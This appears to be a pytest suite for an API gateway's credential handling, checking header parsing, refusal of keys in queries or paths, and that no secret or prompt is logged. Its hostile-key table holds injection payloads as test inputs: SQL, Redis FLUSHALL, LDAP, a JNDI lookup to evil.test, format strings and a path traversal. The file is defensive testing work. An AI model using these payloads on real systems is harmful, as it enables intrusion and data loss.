"""One credential, in a header, or none at all; and whatever it was, it is written nowhere. Threats E01 and E03."""

import asyncio
import base64
import random
import uuid
from urllib.parse import quote

import pytest
from hypothesis import given
from hypothesis import strategies as st

from extproc.adapters.memory import MemoryClock, MemoryKeys
from extproc.model.ids import OrganisationId
from extproc.model.refusals import Refusal
from extproc.model.secret import Secret
from extproc.model.token import digest_token, is_well_formed, mint_token
from extproc.policy.identify import identify, read_credential
from tests.e2e.raw import CHAT, ask, fields2, files_with, http1, nothing_reaches_a_provider, wait_for_journal, wire2
from tests.e2e.rig import Rig
from tests.e2e.rig_values import PEPPER, TOKEN

pytestmark = pytest.mark.usefixtures("no_secret_is_written")

INVALID = (401, "invalid_api_key")
MISSING = (401, "missing_credentials")
AMBIGUOUS = (400, "ambiguous_credentials")
IN_QUERY = (400, "credential_in_query")
NOT_HTTP = (400, "invalid_request")
OTHER = mint_token(OrganisationId("acme"), random.Random(8).randrange).reveal()  # noqa: S311
"""Well-formed, and nobody's."""

HOSTILE_KEYS = {
    "nobody's": (OTHER, INVALID),
    "one letter off": (TOKEN[:-1] + ("a" if TOKEN[-1] != "a" else "b"), INVALID),
    "cut": (TOKEN[:-1], INVALID),
    "longer": (TOKEN + "a", INVALID),
    "upper case": (TOKEN.upper(), INVALID),
    "other organisation": (TOKEN.replace("acme", "evil"), INVALID),
    "a provider's": ("sk-proj-0123456789abcdef", INVALID),
    "SQL": ("'||(SELECT(pg_sleep(5)))||'", INVALID),
    "SQL with spaces": ("' OR '1'='1' --", AMBIGUOUS),
    "Redis": ("*1\\r\\n$8\\r\\nFLUSHALL\\r\\n", INVALID),
    "LDAP": ("*)(uid=*))(|(uid=*", INVALID),
    "a template": ("{{7*7}}${jndi:ldap://evil.test/a}", INVALID),
    "a format": ("%s%n%x{0.__class__}", INVALID),
    "a path": ("../../../etc/passwd", INVALID),
    "UTF-8": ("gk_acme_ключ".encode().decode("latin-1"), INVALID),
    "raw bytes": ("\xff\xfe\x80", INVALID),
    "full width": (TOKEN.replace("g", "\uff47").encode().decode("latin-1"), INVALID),
    "a tab": (f"{TOKEN}\t{OTHER}", AMBIGUOUS),
    "a no-break space": (f"{TOKEN}\xa0", AMBIGUOUS),
    "a NUL": (f"{TOKEN}\0", NOT_HTTP),
    "50 kB": ("a" * 50_000, INVALID),
    "1 MB": ("a" * 1_000_000, (431, "invalid_request")),
    "1 MB after the real one": (TOKEN + "a" * 1_000_000, (431, "invalid_request")),
}


@pytest.mark.parametrize("name", HOSTILE_KEYS)
async def test_a_hostile_key_is_refused(rig: Rig, name: str) -> None:
    key, verdict = HOSTILE_KEYS[name]
    async with nothing_reaches_a_provider(rig):
        for request in (http1("POST", CHAT, key=key), http1("POST", CHAT, f"x-api-key: {key}", key=None)):
            answer = await ask(rig, request)
            assert answer.verdict == verdict
            assert answer.status != 401 or answer.headers["www-authenticate"] == "Bearer"


@given(st.text(max_size=200) | st.from_regex(r"gk_[a-z-]{1,34}_[0-9A-Za-z]{38}", fullmatch=True))
async def test_garbage_costs_no_look_up(text: str) -> None:
    clock = MemoryClock()
    keys = MemoryKeys(clock)
    # A directory that is down: asking it at all would raise Unavailable.
    keys.is_down = True
    if not is_well_formed(text):
        with pytest.raises(Refusal):
            await identify(read_credential([("authorization", f"Bearer {text}")], ""), keys, PEPPER, clock)


async def test_a_text_that_only_resembles_a_key_is_another_key() -> None:
    digests = {digest_token(Secret(text), PEPPER) for text in (TOKEN, TOKEN + "\0", TOKEN.upper(), f" {TOKEN}")}
    assert len(digests) == 4


BASIC = "Basic " + base64.b64encode(f"user:{TOKEN}".encode()).decode()
HEADERS: dict[str, tuple[list[str], tuple[int, str]]] = {
    "none": ([], MISSING),
    "a cookie": ([f"cookie: authorization=Bearer {TOKEN}; api_key={TOKEN}"], MISSING),
    "an empty one": (["authorization:"], MISSING),
    "a scheme alone": (["authorization: Bearer"], MISSING),
    "bearer": ([f"authorization: Bearer {TOKEN}"], (200, "")),
    "lower case": ([f"authorization: bearer {TOKEN}"], (200, "")),
    "upper case": ([f"AUTHORIZATION: BEARER {TOKEN}"], (200, "")),
    "x-api-key": ([f"x-api-key: {TOKEN}"], (200, "")),
    "api-key": ([f"api-key: {TOKEN}"], (200, "")),
    "the same three times": (
        [f"authorization: Bearer {TOKEN}", f"x-api-key: {TOKEN}", f"api-key: {TOKEN}"],
        (200, ""),
    ),
    "basic": ([f"authorization: {BASIC}"], INVALID),
    "no scheme": ([f"authorization: {TOKEN}"], INVALID),
    "digest": ([f'authorization: Digest username="{TOKEN}"'], INVALID),
    "two lines": ([f"authorization: Bearer {TOKEN}", f"authorization: Bearer {OTHER}"], AMBIGUOUS),
    "two lines, the good one last": ([f"authorization: Bearer {OTHER}", f"authorization: Bearer {TOKEN}"], AMBIGUOUS),
    "two lines that agree": ([f"authorization: Bearer {TOKEN}"] * 2, AMBIGUOUS),
    "a list": ([f"authorization: Bearer {TOKEN}, Bearer {OTHER}"], AMBIGUOUS),
    "a list without a space": ([f"authorization: Bearer {TOKEN},Bearer {TOKEN}"], AMBIGUOUS),
    "basic, then bearer": ([f"authorization: {BASIC}, Bearer {TOKEN}"], AMBIGUOUS),
    "basic line, bearer line": ([f"authorization: {BASIC}", f"authorization: Bearer {TOKEN}"], AMBIGUOUS),
    "bearer twice": ([f"authorization: Bearer Bearer {TOKEN}"], AMBIGUOUS),
    "a folded second one": ([f"authorization: Bearer {TOKEN}\r\n {OTHER}"], AMBIGUOUS),
    "x-api-key differs": ([f"authorization: Bearer {TOKEN}", f"x-api-key: {OTHER}"], AMBIGUOUS),
    "api-key differs": ([f"authorization: Bearer {TOKEN}", f"api-key: {OTHER}"], AMBIGUOUS),
    "x-api-key twice": ([f"x-api-key: {TOKEN}", f"x-api-key: {OTHER}"], AMBIGUOUS),
    "basic beside x-api-key": ([f"authorization: {BASIC}", f"x-api-key: {TOKEN}"], AMBIGUOUS),
    "proxy-authorization": ([f"proxy-authorization: Bearer {TOKEN}"], MISSING),
    "an underscore": ([f"x_api_key: {TOKEN}"], MISSING),
}


@pytest.mark.parametrize("name", HEADERS)
async def test_exactly_one_credential_is_taken(rig: Rig, name: str) -> None:
    lines, verdict = HEADERS[name]
    request = http1("POST", CHAT, *lines, key=None)
    if verdict[0] == 200:
        assert (await ask(rig, request)).verdict == verdict
        assert TOKEN not in str(rig.provider.requests[-1])
        return
    async with nothing_reaches_a_provider(rig):
        assert (await ask(rig, request)).verdict == verdict


async def test_two_credentials_over_http2_are_two(rig: Rig) -> None:
    async with nothing_reaches_a_provider(rig), wire2(rig) as connection:
        await connection.request(1, fields2(CHAT, "POST", ("authorization", f"Bearer {TOKEN}")), b"{}")
        assert (await connection.answer(1)).verdict == AMBIGUOUS


async def test_nobody_learns_what_a_key_would_be_allowed_without_having_it(rig: Rig) -> None:
    answers = [
        await ask(rig, http1(method, path, key=OTHER))
        for method, path in (
            ("POST", CHAT),
            ("GET", "/v1/models"),
            ("GET", "/v1/models/chat"),
            ("GET", "/v1/models/no"),
        )
    ]
    assert {answer.body for answer in answers} == {answers[0].body}
    assert {answer.verdict for answer in answers} == {INVALID}


def _canary() -> str:
    return mint_token(OrganisationId("canary"), random.SystemRandom().randrange).reveal()


QUERIES = {
    "api_key": "api_key={key}",
    "key, as Google has it": "key={key}",
    "access_token, as OAuth has it": "access_token={key}",
    "other case": "Api-Key={key}",
    "encoded name": "%61pi%5Fkey={key}",
    "encoded twice": "%2561pi_key={key}",
    "behind a semicolon": "a=b;api_key={key}",
    "behind others": "a=b&&c&token={key}",
    "with a scheme": "authorization=Bearer%20{key}",
    "any name": "q={key}",
    "no name": "{key}",
    "an encoded key": "q={quoted}",
    "a key encoded twice": "q={twice}",
    "a key with padding": "q=%20{key}+",
    "empty": "api_key=",
}


async def _written(rig: Rig, secrets: dict[str, str]) -> dict[str, list[str]]:
    await asyncio.to_thread(wait_for_journal, rig)
    return {name: found for name, secret in secrets.items() if (found := files_with(rig, secret))}


async def test_a_key_in_the_query_is_refused_and_written_nowhere(rig: Rig) -> None:
    secrets: dict[str, str] = {}
    async with nothing_reaches_a_provider(rig):
        for name, template in QUERIES.items():
            key = _canary()
            encoded = "".join(f"%{ord(character):02x}" for character in key)
            query = template.format(key=key, quoted=encoded, twice=quote(encoded))
            assert (await ask(rig, http1("POST", f"{CHAT}?{query}"))).verdict == IN_QUERY, name
            assert (await ask(rig, http1("GET", f"/v1/models?{query}", key=None))).verdict == IN_QUERY, name
            secrets |= {name: key.rpartition("_")[2], f"{name}, encoded": encoded}
    assert await _written(rig, secrets) == {}


PLACES = {
    "the path": http1("GET", "/v1/models/{key}"),
    "an unknown path": http1("GET", "/{key}"),
    "a malformed path": http1("GET", "/{key}%2f"),
    "the fragment": http1("GET", "/v1/models#{key}"),
    "the host": http1("GET", "/v1/models", host="{key}"),
    "the wrong header": http1("GET", "/v1/models", "x-request-id: {key}", "x-auth-token: {key}", "user-agent: {key}"),
    "the method": http1("{key}", "/v1/models"),
    "the version": http1("GET", "/v1/models").replace(b"HTTP/1.1", b"{key}"),
    "a header's name": http1("GET", "/v1/models", "{key}: x", "{key}"),
    "a referer": http1("POST", CHAT, "referer: https://a.test/?api_key={key}", "origin: {key}"),
    "the model": http1("POST", CHAT, body=b'{"model":"{key}","messages":[{}]}', key=None),
    "a field's name": http1("POST", CHAT, body=b'{"model":"chat","messages":[{}],"{key}":1,"{key}":1}'),
    "a content type": http1("POST", CHAT, "content-type: {key}"),
    "an encoding": http1("POST", CHAT, "transfer-encoding: {key}"),
    "a chunk's length": http1("POST", CHAT, "transfer-encoding: chunked", body=b"{key}\r\n"),
    "a key that is nobody's": http1("GET", "/v1/models", key="{key}"),
}


async def test_a_key_in_the_wrong_place_is_written_nowhere(rig: Rig) -> None:
    secrets: dict[str, str] = {}
    for name, request in PLACES.items():
        key = _canary()
        await ask(rig, request.replace(b"{key}", key.encode()))
        secrets[name] = key.rpartition("_")[2]
    assert await _written(rig, secrets) == {}


async def test_a_prompt_is_written_nowhere(rig: Rig) -> None:
    prompt = uuid.uuid4().hex
    for body in (
        b'{"model":"chat","messages":[{"role":"user","content":"%s"}]}',
        b'{"model":"chat","messages":"%s"}',
        b'{"model":"chat","%s":1',
        b'{"model":"%s","messages":[{}]}',
    ):
        assert (await ask(rig, http1("POST", CHAT, body=body % prompt.encode()))).status
    assert await _written(rig, {"the prompt": prompt}) == {}
